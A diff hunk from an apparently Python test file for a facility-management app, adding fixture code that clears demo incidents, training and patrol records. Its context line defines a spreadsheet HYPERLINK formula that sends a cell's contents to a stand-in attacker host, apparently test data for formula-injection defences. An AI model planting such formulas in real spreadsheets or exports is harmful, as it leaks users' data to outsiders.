@@ -40,6 +40,9 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 @pytest.fixture
 def demo_office(office):
     fill_demo_office(NOW, seed=3, customers=40, tickets=260)
+    # The demo's own incidents, training and patrols are cleared: these tests count hand-built ones.
+    for model in (Incident, TrainingAttendance, TrainingSession, PatrolRecord):
+        model.delete().execute()
     techs = list(Staff.select().where(Staff.role == "technician").limit(3))
     site = Site.select().first()
     PatrolRecord.create(site=site, day=date(2026, 8, 12), inspector=techs[0], findings="+外墙无渗漏")
